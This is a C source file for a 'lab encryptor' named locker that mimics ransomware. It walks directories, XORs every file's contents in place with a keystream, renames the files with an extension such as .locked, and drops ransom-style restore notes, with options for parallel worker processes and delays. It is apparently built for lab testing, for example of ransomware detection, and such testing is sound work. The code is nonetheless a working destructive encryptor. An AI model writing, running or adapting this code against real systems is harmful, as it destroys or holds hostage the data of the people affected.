/* Lab encryptor, "unknown native binary" style: opens each file O_RDWR, overwrites its content in place
 * with a keystream, closes it, renames it to NAME<ext>, and drops a note per directory and/or per file.
 *   locker [-e .locked] [-n README_RESTORE.txt] [-N .README] [-x .docx,.pdf] [-d delay_ms] [-w workers] DIR...
 * -w N forks N workers that split the sorted file list (file i goes to worker i % N).
 * -e "" keeps the names (no rename). */
#include "common.h"

int main(int argc, char **argv) {
    const char *ext = ".locked", *note = NULL, *per_file = NULL, *extensions = NULL;
    long delay_ms = 0; int workers = 1, opt;
    while ((opt = getopt(argc, argv, "e:n:N:x:d:w:")) != -1) {
        switch (opt) {
        case 'e': ext = optarg; break;
        case 'n': note = optarg; break;
        case 'N': per_file = optarg; break;
        case 'x': extensions = optarg; break;
        case 'd': delay_ms = atol(optarg); break;
        case 'w': workers = atoi(optarg) > 0 ? atoi(optarg) : 1; break;
        default: fprintf(stderr, "usage: %s [-e ext] [-n note] [-N suffix] [-x exts] [-d ms] [-w n] dir...\n", argv[0]); return 2;
        }
    }
    file_list files = {0};
    for (int i = optind; i < argc; i++) walk(argv[i], extensions, ext, note, &files);
    qsort(files.paths, files.n, sizeof(char *), cmp_str);

    int me = 0;
    for (int w = 1; w < workers; w++) {
        pid_t p = fork();
        if (p == 0) { me = w; break; }
    }
    ks_seed();
    ks_state ^= (uint64_t)(me + 1) * 0x9E3779B97F4A7C15ULL;
    size_t done = 0;
    for (size_t i = (size_t)me; i < files.n; i += (size_t)workers) {
        const char *f = files.paths[i];
        int fd = open(f, O_RDWR);
        if (fd < 0) continue;
        struct stat st;
        if (fstat(fd, &st) == 0) xor_range(fd, 0, (size_t)st.st_size);
        close(fd);
        if (ext && *ext) {
            char to[4200];
            snprintf(to, sizeof to, "%s%s", f, ext);
            rename(f, to);
        }
        note_for(f, note, per_file);
        done++;
        sleep_ms(delay_ms);
    }
    if (me != 0) return 0;
    for (int w = 1; w < workers; w++) wait(NULL);
    return 0;
}
